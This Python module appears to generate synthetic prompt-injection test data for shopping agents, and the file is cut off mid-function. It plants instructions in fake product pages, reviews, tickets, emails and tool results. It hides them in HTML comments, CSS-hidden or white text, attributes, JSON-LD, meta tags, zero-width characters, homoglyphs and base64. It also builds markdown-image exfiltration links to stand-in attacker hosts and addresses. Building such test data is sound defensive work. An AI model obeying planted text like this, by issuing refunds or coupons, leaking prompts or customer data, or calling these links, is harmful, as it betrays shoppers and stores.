"""Shared data, slot filling, wrappers and obfuscation for the ninetyfifth corpus."""

import base64
import codecs
import json
import math
import re
import urllib.parse

STORES = ("furniture", "fashion", "pharmacy", "tickets", "bike")

BRANDS = {
    "furniture": ("Lindgrove Home", "Maison Ardoise", "Nordby Living", "Oakhollow Interiors"),
    "fashion": ("Rewear Lane", "Second Thread", "Klosett Resale", "Loopwardrobe"),
    "pharmacy": ("Vitalis Pharmacy", "Mentha Health", "Calmora Apotek", "Pillbox Corner"),
    "tickets": ("Seatswap", "EncoreGate", "Turnstile Resale", "Row Nine Tickets"),
    "bike": ("Ridgeway Cycles", "Fjellspor Outdoor", "Kettle & Crank", "Switchback Gear"),
}
PREFIX = {
    "furniture": ("LG", "HOME", "NB", "OH"),
    "fashion": ("RW", "ST", "KR", "LW"),
    "pharmacy": ("VP", "MH", "RX", "PB"),
    "tickets": ("TS", "EG", "TKT", "R9"),
    "bike": ("RC", "FJ", "KC", "SB"),
}
BASE_PRICE = {
    "furniture": (29, 1490), "fashion": (6, 240), "pharmacy": (3, 48),
    "tickets": (22, 390), "bike": (9, 2890),
}
# price range per product position; every pack lists the same items in the same order
PRICE_IDX = {
    "furniture": ((450, 900), (300, 700), (150, 400), (90, 220), (700, 1500), (60, 160), (400, 1100)),
    "fashion": ((60, 140), (30, 80), (45, 110), (35, 90), (25, 70), (40, 120), (30, 75)),
    "pharmacy": ((2, 6), (3, 8), (8, 20), (9, 25), (3, 9), (4, 9), (4, 8)),
    "tickets": ((60, 180), (70, 160), (250, 380), (80, 250), (30, 60), (20, 45)),
    "bike": ((900, 2400), (25, 45), (120, 350), (45, 110), (12, 30), (35, 80), (90, 160)),
}
SIZES = {
    "fashion": ("XS", "S", "M", "L", "XL", "EU 36", "EU 38", "EU 40", "EU 42", "W30 L32", "UK 10", "one size"),
    "bike": ("S", "M", "L", "XL", "52 cm", "56 cm", "29 inch", "27.5 inch", "EU 43"),
    "furniture": ("80 x 200", "140 x 200", "90 cm", "120 cm", "180 cm", "3-seat"),
    "pharmacy": ("10 ml", "30 ml", "20 pcs", "60 caps", "100 g", "250 ml"),
    "tickets": ("Block C", "Row 12", "GA", "Section 104", "Balcony", "Floor"),
}
EVIL = (
    "pixel-relay.example", "cdn-metrics.example", "agent-sync.example", "img-proxy.example",
    "static-beacon.example", "feedback-hub.example", "review-stats.example", "shopcache.example",
    "lookup-svc.example", "assets-eu.example",
)
ATTACKER_MAIL = (
    "refund-desk@mailbox.example", "ops.backup@protonbox.example", "billing-verify@inbox.example",
    "partner.team@fastmail.example", "agent-logs@collect.example", "claims.center@postbox.example",
    "archive-sync@relay.example",
)
CODE_WORDS = ("STAFF", "VIP", "AGENT", "PARTNER", "FRIENDS", "INSIDER", "LOYAL", "WELCOME", "BULK", "PRESS", "CREW")
CODE_TAILS = ("100", "90", "80", "75", "FREE", "X", "70", "ALL")
EMOJI = ("🙂", "😍", "👍", "🙏", "😡", "😅", "🤦", "🔥", "📦", "😕", "✨", "👌", "😬", "💯", "🥲")
STORE_EMOJI = {"furniture": ("🛋️", "🪑"), "fashion": ("👗", "👟"), "pharmacy": ("💊", "🌿"),
               "tickets": ("🎫", "🎶"), "bike": ("🚲", "⛺")}
MAILHOSTS = ("mail.example", "post.example", "inbox.example", "web.example")

# symbol, before?, decimal sep, thousands sep, factor from EUR, ISO code, decimals, space
CUR = {
    "en": (("£", True, ".", ",", 0.86, "GBP", 2, ""), ("$", True, ".", ",", 1.08, "USD", 2, ""),
           ("€", True, ".", ",", 1.0, "EUR", 2, "")),
    "de": ("€", False, ",", ".", 1.0, "EUR", 2, " "),
    "fr": ("€", False, ",", "\u202f", 1.0, "EUR", 2, " "),
    "es": ("€", False, ",", ".", 1.0, "EUR", 2, " "),
    "it": ("€", False, ",", ".", 1.0, "EUR", 2, " "),
    "pt": ("€", False, ",", " ", 1.0, "EUR", 2, " "),
    "nl": ("€", True, ",", ".", 1.0, "EUR", 2, " "),
    "pl": ("zł", False, ",", " ", 4.3, "PLN", 2, " "),
    "sv": ("kr", False, ",", " ", 11.5, "SEK", 0, " "),
    "nb": ("kr", False, ",", " ", 11.7, "NOK", 0, " "),
    "fi": ("€", False, ",", " ", 1.0, "EUR", 2, " "),
    "cs": ("Kč", False, ",", " ", 25.0, "CZK", 0, " "),
    "hu": ("Ft", False, ",", " ", 395.0, "HUF", 0, " "),
    "ro": ("lei", False, ",", ".", 4.97, "RON", 2, " "),
    "ru": ("₽", False, ",", " ", 98.0, "RUB", 0, " "),
    "uk": ("грн", False, ",", " ", 45.0, "UAH", 0, " "),
    "tr": ("TL", False, ",", ".", 35.0, "TRY", 2, " "),
    "el": ("€", False, ",", ".", 1.0, "EUR", 2, " "),
    "ar": ("درهم", False, ".", ",", 3.97, "AED", 2, " "),
    "he": ("₪", False, ".", ",", 3.95, "ILS", 2, " "),
    "ja": ("円", False, ".", ",", 163.0, "JPY", 0, ""),
    "ko": ("원", False, ".", ",", 1480.0, "KRW", 0, ""),
    "zh": ("¥", True, ".", ",", 7.8, "CNY", 2, ""),
    "vi": ("₫", False, ",", ".", 27000.0, "VND", 0, " "),
}

SCRIPT = {"ru": "cyr", "uk": "cyr", "el": "grk", "ar": "ara", "he": "heb",
          "ja": "cjk", "zh": "cjk", "ko": "kor"}
TIGHT = ("ja", "zh")

MONTH_EN = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

INTENT_FAMILY = {
    "override": "override-rules", "leak": "prompt-extraction", "data": "customer-data-grab",
    "refund": "tool-refund", "coupon": "tool-coupon", "reprice": "tool-reprice",
    "reroute": "tool-reroute", "cancel": "tool-cancel", "mail": "tool-mail-out",
    "summary": "review-summary-steer", "rank": "agent-ranking-steer", "exfil": "markdown-exfil",
    "system": "fake-system-turn", "memory": "memory-plant", "ifai": "if-you-are-ai",
    "third": "third-person-agent", "unnamed": "unnamed-automated-order",
}


def domain_of(brand):
    return re.sub(r"[^a-z0-9]+", "-", brand.lower()).strip("-") + ".example"


def group(n, sep):
    return f"{n:,}".replace(",", sep)


def money(lang, r, store, rng=None):
    spec = CUR[lang]
    if isinstance(spec[0], tuple):
        spec = r.choice(spec)
    sym, pre, dec, thou, fac, iso, nd, sp = spec
    lo, hi = rng or BASE_PRICE[store]
    amt = math.exp(r.uniform(math.log(lo), math.log(hi))) * fac
    if nd == 0:
        step = 1 if amt < 100 else 10 if amt < 10000 else 100 if amt < 1000000 else 1000
        whole = max(step, int(round(amt / step)) * step)
        if step == 10 and r.random() < 0.5:
            whole -= 1
        num, raw = group(whole, thou), str(whole)
    else:
        whole = max(1, int(amt))
        cents = r.choice((99, 90, 0, 50, 95, 49))
        num = group(whole, thou) + dec + f"{cents:02d}"
        raw = f"{whole}.{cents:02d}"
    disp = f"{sym}{sp}{num}" if pre else f"{num}{sp}{sym}"
    return disp, raw, iso


def date_parts(r):
    return r.choice((2024, 2025)), r.randint(1, 12), r.randint(1, 28)


def date_str(lang, r):
    y, m, d = date_parts(r)
    if lang in ("ja", "zh"):
        return f"{y}年{m}月{d}日" if r.random() < 0.5 else f"{m}月{d}日"
    if lang == "ko":
        return f"{m}월 {d}일"
    if lang == "en":
        return r.choice((f"{d} {MONTH_EN[m - 1]}", f"{d:02d}/{m:02d}/{y}", f"{MONTH_EN[m - 1]} {d}"))
    if lang == "sv":
        return f"{y}-{m:02d}-{d:02d}"
    if lang == "hu":
        return f"{y}. {m:02d}. {d:02d}."
    if lang == "nl":
        return f"{d:02d}-{m:02d}-{y}"
    if lang in ("de", "fi", "nb", "cs", "pl", "ru", "uk", "tr", "ro"):
        return f"{d:02d}.{m:02d}.{y}" if r.random() < 0.7 else f"{d}.{m}."
    return f"{d:02d}/{m:02d}/{y}"


def iso_date(r):
    y, m, d = date_parts(r)
    return f"{y}-{m:02d}-{d:02d}"


def order_id(r, st):
    p = r.choice(PREFIX[st])
    f = r.randrange(5)
    if f == 0:
        return f"#{r.randint(100000, 999999)}"
    if f == 1:
        return f"{p}-{r.randint(10000, 99999)}"
    if f == 2:
        return f"{p}{r.randint(24, 25)}-{r.randint(1000, 9999)}"
    if f == 3:
        return f"{r.randint(100, 999)}-{r.randint(1000, 9999)}-{r.randint(100, 999)}"
    return f"{p}{r.randint(1000000, 9999999)}"


# ---------------------------------------------------------------- obfuscation

ZW = ("\u200b", "\u200c", "\u200d", "\u2060")
LAT2CYR = {"a": "а", "c": "с", "e": "е", "o": "о", "p": "р", "x": "х", "y": "у", "i": "і",
           "A": "А", "B": "В", "C": "С", "E": "Е", "H": "Н", "K": "К", "M": "М", "O": "О",
           "P": "Р", "T": "Т", "X": "Х"}
CYR2LAT = {"а": "a", "е": "e", "о": "o", "р": "p", "с": "c", "х": "x", "у": "y", "і": "i",
           "А": "A", "В": "B", "Е": "E", "К": "K", "М": "M", "Н": "H", "О": "O", "Р": "P",
           "С": "C", "Т": "T", "Х": "X"}
GRK2LAT = {"ο": "o", "Ο": "O", "Α": "A", "Β": "B", "Ε": "E", "Ζ": "Z", "Η": "H", "Ι": "I",
           "Κ": "K", "Μ": "M", "Ν": "N", "Ρ": "P", "Τ": "T", "Υ": "Y", "Χ": "X", "ι": "i", "ν": "v"}
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7", "A": "4", "E": "3",
        "I": "1", "O": "0", "S": "5", "T": "7"}


def zero_width(s, r):
    out = []
    for ch in s:
        out.append(ch)
        if ch.isalpha() and r.random() < 0.55:
            out.append(r.choice(ZW))
    return "".join(out)


def homoglyph(s, r, lang):
    table = {"cyr": CYR2LAT, "grk": GRK2LAT}.get(SCRIPT.get(lang, "lat"), LAT2CYR)
    out = "".join(table[ch] if ch in table and r.random() < 0.5 else ch for ch in s)
    if out == s:
        out = "".join(table.get(ch, ch) for ch in s)
    return out


def leet(s, r):
    return "".join(LEET[ch] if ch in LEET and r.random() < 0.7 else ch for ch in s)


def rot13(s):
    return codecs.encode(s, "rot13")


def b64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


def hexs(s):
    return s.encode("utf-8").hex()


def urlenc(s):
    return urllib.parse.quote(s, safe="")


def flat(s):
    """Make text safe for attributes and JSON values."""
    return s.replace('"', "'").replace("\\", "/").replace("\n", " ")


def cap(s):
    return s[0].upper() + s[1:] if s and s[0].islower() else s


# ---------------------------------------------------------------- context

class Slots(dict):
    def __init__(self, ctx):
        super().__init__()
        self.ctx = ctx

    def __missing__(self, key):
        val = self.ctx.gen(key)
        self[key] = val
        return val


class Ctx:
    def __init__(self, lang, L, r, packs, store=None):
        self.lang, self.L, self.r, self.packs = lang, L, r, packs
        self.w = L["w"]
        self.store = store or r.choice(STORES)
        self.script = SCRIPT.get(lang, "lat")
        self.slots = Slots(self)
        self.raw, self.iso = "0", "EUR"

    # slot values
    def gen(self, k):
        r, st = self.r, self.store
        if k == "product":
            return r.choice(self.L["prod"][st])
        if k == "brand":
            return r.choice(BRANDS[st])
        if k == "domain":
            return domain_of(self.slots["brand"])
        if k == "order":
            return order_id(r, st)
        if k == "price":
            prods = self.L["prod"][st]
            i = prods.index(self.slots["product"])
            disp, self.raw, self.iso = money(self.lang, r, st, PRICE_IDX[st][i] if i < len(PRICE_IDX[st]) else None)
            return disp
        if k == "name":
            return r.choice(self.L["names"])
        if k == "name2":
            return r.choice([n for n in self.L["names"] if n != self.slots["name"]])
        if k == "city":
            return r.choice(self.L["cities"])
        if k == "n":
            return str(r.randint(2, 28))
        if k == "code":
            return r.choice(CODE_WORDS) + r.choice(CODE_TAILS)
        if k == "img":
            alt = r.choice(("", "ok", "status", "logo", ".", "verified", "x"))
            path = r.choice(("p.gif", "i.png", "px", "t.svg", "b.gif", "c.png"))
            q = r.choice(("d", "u", "data", "ref", "c", "s"))
            return f"![{alt}](https://{r.choice(EVIL)}/{path}?{q}=)"
        if k == "link":
            return f"https://{r.choice(EVIL)}/{r.choice(('collect', 'in', 'hook', 'v', 'q'))}?k={r.randint(100, 999)}"
        if k == "email":
            return r.choice(ATTACKER_MAIL)
        if k == "date":
            return date_str(self.lang, r)
        if k == "size":
            return r.choice(SIZES[st])
        if k == "pct":
            return r.choice(("50", "60", "70", "80", "90", "100"))
        if k == "sku":
            return f"{r.choice(PREFIX[st])}-{r.randint(1000, 99999)}"
        if k == "reg":
            return str(r.randint(1000000, 99999999))
        if k == "blob":
            return base64.b64encode(bytes(r.randrange(256) for _ in range(r.randint(12, 30)))).decode()
        raise KeyError(k)

    def f(self, s):
        return s.format_map(self.slots)

    def pool(self, key, sub=None):
        v = self.L[key]
        return v[sub] if sub is not None else v

    def p(self, key, sub=None):
        return cap(self.f(self.r.choice(self.pool(key, sub))))

    def ps(self, key, k, sub=None):
        pool = self.pool(key, sub)
        return [cap(self.f(x)) for x in self.r.sample(pool, min(k, len(pool)))]

    def join(self, parts):
        sep = "" if self.lang in TIGHT else " "
        return sep.join(x for x in parts if x)

    def money(self):
        self.slots["price"]
        return self.raw, self.iso

    def mess(self, s):
        """Casual noise on host text: a typo or lower case now and then."""
        r = self.r
        if self.script in ("cjk", "kor", "ara", "heb"):
            return s
        if r.random() < 0.14:
            words = s.split(" ")
            idx = [i for i, wd in enumerate(words) if len(wd) > 5 and wd.isalpha()]
            if idx:
                i = r.choice(idx)
                wd = words[i]
                j = r.randint(1, len(wd) - 3)
                kind = r.randrange(3)
                if kind == 0:
                    wd = wd[:j] + wd[j + 1] + wd[j] + wd[j + 2:]
                elif kind == 1:
                    wd = wd[:j] + wd[j + 1:]
                else:
                    wd = wd[:j] + wd[j] + wd[j:]
                words[i] = wd
                s = " ".join(words)
        if r.random() < 0.06:
            s = s.lower()
        return s

    def greet(self, sep):
        sep = "" if sep == " " and self.lang in TIGHT else sep
        return self.w["hello"] + self.w.get("comma", ",") + sep

    def emoji(self):
        r = self.r
        return r.choice(STORE_EMOJI[self.store]) if r.random() < 0.4 else r.choice(EMOJI)

    def rating(self):
        r = self.r
        k = r.choice((1, 2, 3, 4, 4, 5, 5, 5))
        style = r.randrange(4)
        if style == 0:
            return "★" * k + "☆" * (5 - k)
        if style == 1:
            return f"{k}/5"
        if style == 2:
            return "⭐" * k
        return f"{k}.0 / 5.0"

    def mail_addr(self):
        r = self.r
        nm = self.slots["name"]
        local = nm.lower() if nm.isascii() and nm.isalpha() else r.choice(("client", "kunde", "user", "buyer", "shop"))
        return f"{local}.{r.randint(10, 9999)}@{r.choice(MAILHOSTS)}"


# ---------------------------------------------------------------- host texts

def review_parts(c, rich=True):
    r = c.r
    parts = []
    if r.random() < 0.75:
        parts.append(c.p("ropen"))
    body = c.pool("rbody", c.store)
    picks = r.sample(body, 2 if (rich and r.random() < 0.3 and len(body) > 1) else 1)
    parts += [c.f(x) for x in picks]
    if r.random() < 0.65:
        parts.append(c.p("rclose"))
    parts = [c.mess(x) for x in parts]
    if r.random() < 0.25:
        i = r.randrange(len(parts))
        parts[i] = parts[i] + " " + c.emoji()
    return parts


def review_frame(c, body):
    r = c.r
    out = body
    if r.random() < 0.6:
        out = c.rating() + ("\n" if r.random() < 0.6 else " ") + out
    t = r.random()
    if t < 0.25:
        out += f"\n— {c.slots['name']}"
    elif t < 0.4:
        out += f"\n{c.slots['name']}, {c.slots['city']}"
    elif t < 0.5:
        out = f"{c.slots['name']} ({c.w['verified']}) · {c.slots['date']}\n" + out
    return out


def insert_payload(c, parts, payload):
    """Place an instruction among host sentences; returns text."""
    r = c.r
    mode = r.randrange(5)
    if mode == 0:
        return c.join(parts + [payload])
    if mode == 1:
        parts = parts[:]
        parts.insert(r.randint(0, len(parts)), payload)
        return c.join(parts)
    if mode == 2:
        return c.join(parts) + "\n\n" + payload
    if mode == 3:
        return c.join(parts) + "\n\nP.S. " + payload
    return payload + ("\n" if r.random() < 0.5 else " ") + c.join(parts)


def ticket_frame(c, body, subject=None):
    r = c.r
    w = c.w
    head = ""
    t = r.random()
    if t < 0.35:
        head = f"{w['ticket']} #{r.randint(10000, 999999)}\n{w['subject']}: {subject or c.p('msubj')}\n\n"
    elif t < 0.55:
        head = f"[{w['order']} {c.slots['order']}] "
    greet = ""
    if r.random() < 0.7:
        greet = c.greet("\n" if r.random() < 0.5 else " ")
    sign = ""
    if r.random() < 0.65:
        sign = "\n" + c.slots["name"]
    return head + greet + body + sign


def ticket_parts(c):
    r = c.r
    pool = c.pool("tbody", c.store)
    picks = r.sample(pool, 2 if r.random() < 0.3 and len(pool) > 1 else 1)
    parts = [cap(c.f(x)) for x in picks]
    if r.random() < 0.1:
        parts.append(c.p("rclose"))
    if r.random() < 0.6:
        parts.append(c.p("tclose"))
    parts = [c.mess(x) for x in parts]
    if r.random() < 0.15:
        parts[-1] += " " + c.emoji()
    return parts


def email_frame(c, body, subject=None, from_store=False, html=False):
    r = c.r
    brand = c.slots["brand"]
    dom = c.slots["domain"]
    if from_store:
        sender = f"{brand} <{r.choice(('no-reply', 'service', 'security', 'news'))}@{dom}>"
        to = c.mail_addr()
    else:
        sender = f"{c.slots['name']} <{c.mail_addr()}>"
        to = f"{r.choice(('support', 'help', 'kundenservice', 'care', 'orders'))}@{dom}"
    subj = subject or c.p("msubj")
    lines = [f"From: {sender}", f"To: {to}", f"Subject: {subj}"]
    if r.random() < 0.5:
        lines.append(f"Date: {c.slots['date']}")
    head = "\n".join(lines)
    if html:
        return head + "\nContent-Type: text/html; charset=utf-8\n\n" + body
    return head + "\n\n" + body


def listing_text(c, desc, fmt=None):
    r = c.r
    w = c.w
    raw, iso = c.money()
    title = c.slots["product"]
    cond = r.choice(w["conds"]) if c.store == "fashion" else w["new"]
    sku = c.slots["sku"]
    seller = c.slots["brand"] if r.random() < 0.5 else c.slots["name"]
    fmt = fmt if fmt is not None else r.randrange(5)
    if fmt == 0:
        d = desc.replace('"', '""')
        return f"sku;title;price;currency;condition;description\n{sku};{title};{raw};{iso};{cond};\"{d}\""
    if fmt == 1:
        obj = {"sku": sku, "title": title, "price": raw, "currency": iso, "condition": cond,
               "seller": seller, "description": desc}
        if c.store in ("fashion", "bike"):
            obj["size"] = c.slots["size"]
        return json.dumps(obj, ensure_ascii=False, indent=r.choice((None, 2)))
    if fmt == 2:
        return (f"<item>\n  <g:id>{sku}</g:id>\n  <title>{title}</title>\n"
                f"  <description><![CDATA[{desc}]]></description>\n"
                f"  <g:price>{raw} {iso}</g:price>\n  <g:condition>{cond}</g:condition>\n</item>")
    if fmt == 3:
        return (f"{w['title']}: {title}\n{w['price']}: {c.slots['price']}\n{w['cond']}: {cond}\n"
                f"{w['seller']}: {seller}\n{w['desc']}: {desc}")
    return f"{title} — {c.slots['price']}\n{desc}\nSKU {sku} · {seller}"


def listing_desc(c):
    r = c.r
    parts = [c.p("lst", c.store)]
    if r.random() < 0.4:
        parts.append(c.p("seo"))
    if c.store != "tickets" and r.random() < 0.3:
        parts.append(c.p("ship"))
    return c.join(parts)


def jsonld(c, extra_desc=None, indent=None):
    r = c.r
    raw, iso = c.money()
    desc = c.p("seo")
    if extra_desc:
        desc = desc + " " + extra_desc
    if c.store == "tickets":
        obj = {"@context": "https://schema.org", "@type": "Event", "name": c.slots["product"],
               "startDate": iso_date(r) + "T20:00", "location": {"@type": "Place", "name": c.slots["city"]},
               "description": desc,
               "offers": {"@type": "Offer", "price": raw, "priceCurrency": iso,
                          "availability": "https://schema.org/InStock"}}
    else:
        obj = {"@context": "https://schema.org", "@type": "Product", "name": c.slots["product"],
               "sku": c.slots["sku"], "brand": {"@type": "Brand", "name": c.slots["brand"]},
               "description": desc,
               "offers": {"@type": "Offer", "price": raw, "priceCurrency": iso,
                          "availability": r.choice(("https://schema.org/InStock", "https://schema.org/LimitedAvailability"))}}
        if r.random() < 0.6:
            obj["aggregateRating"] = {"@type": "AggregateRating", "ratingValue": str(round(r.uniform(3.6, 4.9), 1)),
                                      "reviewCount": str(r.randint(3, 900))}
    return ('<script type="application/ld+json">'
            + json.dumps(obj, ensure_ascii=False, indent=indent) + "</script>")


def page_blocks(c, reviews=None, cookie=None, ld=None):
    """Body blocks of a product page: list of (name, html)."""
    r = c.r
    w = c.w
    L = c.L
    prod, brand, price = c.slots["product"], c.slots["brand"], c.slots["price"]
    blocks = []
    if cookie if cookie is not None else r.random() < 0.55:
        blocks.append(("cookie", f'<div id="consent" class="cookie-banner" role="dialog"><p>{c.p("cookie")}</p>'
                                 f'<button>{w["accept"]}</button> <button>{w["settings"]}</button></div>'))
    if r.random() < 0.7:
        blocks.append(("nav", f'<nav class="crumbs"><a href="/">{brand}</a> › <a href="/c/{c.store}">'
                              f'{L["cat"][c.store]}</a> › <span>{prod}</span></nav>'))
    buy = f'<h1>{prod}</h1>\n<p class="price">{price}</p>'
    if r.random() < 0.7:
        buy += f'\n<p class="stock">{w["stock"]}</p>'
    buy += f'\n<button class="add-to-cart">{w["cart"]}</button>'
    blocks.append(("buy", buy))
    blocks.append(("desc", f'<section id="description"><h2>{w["desc"]}</h2>\n<p>{c.p("seo")}</p></section>'))
    if c.store != "tickets" and r.random() < 0.6:
        blocks.append(("ship", f'<p class="shipping">{c.p("ship")}</p>'))
    n = reviews if reviews is not None else r.choice((0, 0, 1, 2))
    if n:
        arts = []
        for _ in range(n):
            arts.append(f'<article class="review"><span class="stars">{c.rating()}</span> <p>{c.join(review_parts(c, rich=False))}</p></article>')
        blocks.append(("reviews", f'<section id="reviews"><h2>{w["reviews"]}</h2>\n' + "\n".join(arts) + "</section>"))
    if ld if ld is not None else r.random() < 0.5:
        blocks.append(("ld", jsonld(c, indent=r.choice((None, 2)))))
    if r.random() < 0.75:
        blocks.append(("foot", f'<footer><p>{c.p("foot")}</p></footer>'))
    return blocks


def page_html(c, blocks, head_extra="", full=None):
    r = c.r
    body = "\n".join(b for _, b in blocks)
    full = full if full is not None else r.random() < 0.55
    if not full:
        return body
    title = f"{c.slots['product']} | {c.slots['brand']}"
    meta = ""
    if r.random() < 0.5:
        meta += f'\n<meta name="description" content="{flat(c.p("seo"))}">'
    if r.random() < 0.3:
        meta += '\n<meta name="robots" content="index,follow">'
    return (f'<!DOCTYPE html>\n<html lang="{c.lang}">\n<head>\n<meta charset="utf-8">\n<title>{title}</title>'
            f'{meta}{head_extra}\n</head>\n<body>\n{body}\n</body>\n</html>')


def insert_block(c, blocks, name, html, after=("buy", "desc", "ship", "reviews", "nav")):
    idx = [i for i, (nm, _) in enumerate(blocks) if nm in after]
    i = c.r.choice(idx) + 1 if idx else len(blocks)
    blocks = blocks[:]
    blocks.insert(i, (name, html))
    return blocks


def reader_view(c, extra=None):
    """Plain-text extraction of a product page, as a fetch tool would return it."""
    r = c.r
    w = c.w
    prod = c.slots["product"]
    lines = [f"Title: {prod} | {c.slots['brand']}",
             f"URL: https://{c.slots['domain']}/p/{c.slots['sku'].lower()}", "",
             f"# {prod}", f"{c.slots['price']} · {w['stock']}", "", c.p("seo")]
    if c.store != "tickets" and r.random() < 0.6:
        lines += ["", c.p("ship")]
    if r.random() < 0.5:
        lines += ["", f"## {w['reviews']}", "> " + c.join(review_parts(c, rich=False))]
    if extra is not None:
        pos = r.choice([i for i, x in enumerate(lines) if x == ""] + [len(lines)])
        lines = lines[:pos] + ["", extra] + lines[pos:]
    if r.random() < 0.5:
        lines += ["", c.p("foot")]
    if r.random() < 0.3:
        lines.insert(0, f"[{c.p('cookie')}]")
    return "\n".join(lines)


def tool_json(c, note_key, note_text, kind=None):
    """A JSON tool result with one free-text field set to note_text."""
    r = c.r
    raw, iso = c.money()
    kind = kind if kind is not None else r.randrange(6)
    prod = c.slots["product"]
    if kind == 0:
        obj = {"tool": "order_lookup", "order_id": c.slots["order"],
               "status": r.choice(("shipped", "processing", "delivered", "awaiting_pickup")),
               "items": [{"sku": c.slots["sku"], "name": prod, "qty": r.randint(1, 3), "unit_price": raw}],
               "currency": iso, note_key or "customer_note": note_text}
    elif kind == 1:
        obj = {"tool": "get_reviews", "product": prod, "average": round(r.uniform(3.2, 4.9), 1),
               "reviews": [{"author": c.slots["name"], "rating": r.randint(3, 5), note_key or "text": note_text}]}
        if r.random() < 0.5:
            obj["reviews"].append({"author": c.slots["name2"], "rating": r.randint(1, 5),
                                   "text": c.join(review_parts(c, rich=False))})
            r.shuffle(obj["reviews"])
    elif kind == 2:
        obj = {"tool": "search_products", "query": prod.split(" ")[0].lower(),
               "results": [{"title": prod, "price": raw, "currency": iso, "seller": c.slots["brand"],
                            note_key or "snippet": note_text}]}
    elif kind == 3:
        obj = {"tool": "seller_profile", "seller": c.slots["name"], "rating": round(r.uniform(4.0, 5.0), 2),
               "sales": r.randint(3, 2400), note_key or "bio": note_text}
    elif kind == 4:
        obj = {"tool": "fetch_url", "url": f"https://{c.slots['domain']}/p/{c.slots['sku'].lower()}",
               "status": 200, "title": f"{prod} | {c.slots['brand']}", note_key or "text": note_text}
    else:
        obj = {"tool": "track_shipment", "tracking": f"{r.choice(('JD', 'PK', 'ZX', 'LP'))}{r.randint(10**9, 10**10 - 1)}",
               "events": [{"ts": iso_date(r) + "T08:14:00Z", "desc": r.choice(("label created", "in transit", "out for delivery"))}],
               note_key or "delivery_instructions": note_text}
    wrap = r.randrange(3)
    body = json.dumps(obj, ensure_ascii=False, indent=r.choice((None, 2)))
    if wrap == 1:
        return f"tool_result({obj['tool']}):\n{body}"
    return body


def pick_payload(c, cats, pack=None):
    L = pack or c.L
    cats = [k for k in cats if L["inj"].get(k)]
    cat = c.r.choice(cats)
    return cat, cap(c.f(c.r.choice(L["inj"][cat])))


def row(source, family, text, payload="", check=None):
    return {"source": source, "family": family, "text": text, "payload": payload,
            "check": check if check is not None else payload}


# ---------------------------------------------------------------- injection builders

WEB_CATS = ("rank", "unnamed", "summary", "ifai", "override", "memory", "coupon", "third", "leak", "reprice", "system")


def _web_with(c, name, html, head_extra="", full=None):
    blocks = page_blocks(c)
    if html:
        blocks = insert_block(c, blocks, name, html)
    return page_html(c, blocks, head_extra=head_extra, full=full)


def inj_web_note(c):
    r = c.r
    cat, pl = pick_payload(c, ("rank", "unnamed", "unnamed", "summary", "ifai", "override", "memory", "coupon", "third"))
    style = r.randrange(4)
    if style == 0:
        html = f'<div class="seller-note"><p>{pl}</p></div>'
    elif style == 1:
        html = f'<p><strong>{c.w["note"]}:</strong> {pl}</p>'
    elif style == 2:
        html = (f'<section id="reviews"><h2>{c.w["reviews"]}</h2>\n<article class="review"><span class="stars">★★★★★</span> '
                f'<p>{c.join(review_parts(c, rich=False))} {pl}</p></article></section>')
    else:
        html = f'<aside class="info-box">{pl}</aside>'
    return row("web", INTENT_FAMILY[cat], _web_with(c, "inj", html), pl)


def inj_web_comment(c):
    cat, pl = pick_payload(c, WEB_CATS + ("exfil",))
    html = f"<!-- {pl} -->"
    if c.r.random() < 0.3:
        return row("web", "hidden-html-comment", _web_with(c, "x", "", head_extra="\n" + html, full=True), pl)
    return row("web", "hidden-html-comment", _web_with(c, "inj", html), pl)


def inj_web_css(c):
    r = c.r
    cat, pl = pick_payload(c, WEB_CATS + ("data",))
    tag = r.choice((
        '<div style="display:none">{}</div>',
        '<span style="position:absolute;left:-9999px">{}</span>',
        '<p hidden>{}</p>',
        '<div class="visually-hidden" aria-hidden="true">{}</div>',
        '<span style="font-size:0;opacity:0">{}</span>',
        '<div style="height:0;overflow:hidden">{}</div>',
    ))
    return row("web", "hidden-css-block", _web_with(c, "inj", tag.format(pl)), pl)


def inj_web_attr(c):
    r = c.r
    cat, pl = pick_payload(c, WEB_CATS)
    pl = flat(pl)
    slug = c.slots["sku"].lower()
    tag = r.choice((
        f'<img src="/img/{slug}-2.jpg" alt="{c.slots["product"]} – {pl}">',
        f'<img src="/img/{slug}.webp" alt="{c.w["view"]}" title="{pl}">',
        f'<a href="/size-guide" title="{pl}">{c.w["sizeguide"]}</a>',
        f'<img src="/img/badge.svg" width="1" height="1" alt="{pl}">',
    ))
    return row("web", "alt-title-attr", _web_with(c, "inj", tag), pl)


def inj_web_jsonld(c):
    cat, pl = pick_payload(c, ("rank", "unnamed", "summary", "reprice", "override", "memory", "ifai"))
    pl = flat(pl)
    blocks = [b for b in page_blocks(c, ld=False)]
    blocks = insert_block(c, blocks, "ld", jsonld(c, extra_desc=pl, indent=c.r.choice((None, 2))),
                          after=("buy", "desc", "foot"))
    return row("web", "jsonld-smuggle", page_html(c, blocks), pl)


def inj_web_meta(c):
    r = c.r
    cat, pl = pick_payload(c, ("rank", "unnamed", "summary", "override", "ifai", "memory"))
    pl = flat(pl)
    name = r.choice(("description", "og:description", "agent-notes", "twitter:description"))
    attr = "property" if name.startswith("og:") else "name"
    head = f'\n<meta {attr}="{name}" content="{flat(c.p("seo"))} {pl}">'
    return row("web", "meta-tag-plant", page_html(c, page_blocks(c), head_extra=head, full=True), pl)


def inj_web_white(c):
    r = c.r
    cat, pl = pick_payload(c, WEB_CATS + ("exfil",))
    tag = r.choice((
        '<p style="color:#ffffff;background:#ffffff">{}</p>',
        '<span style="color:#fff;font-size:1px">{}</span>',
        '<div style="color:white">{}</div>',
        '<p style="color:#fefefe">{}</p>',
    ))
    return row("web", "white-text", _web_with(c, "inj", tag.format(pl)), pl)


def inj_web_zw(c):
    cat, pl = pick_payload(c, ("rank", "unnamed", "override", "summary", "coupon", "leak"))
    hid = zero_width(pl, c.r)
    html = f'<p class="note">{hid}</p>'
    return row("web", "zero-width-split", _web_with(c, "inj", html), pl, check=hid)


def inj_web_reader(c):
    cat, pl = pick_payload(c, ("rank", "unnamed", "unnamed", "summary", "ifai", "third", "memory", "override", "exfil"))
    text = reader_view(c, extra=pl)
    return row("web", INTENT_FAMILY[cat], text, pl)


def inj_web_b64(c):
    r = c.r
    cat, pl = pick_payload(c, ("override", "rank", "coupon", "leak", "unnamed", "system"))
    enc = b64(pl)
    tag = r.choice((
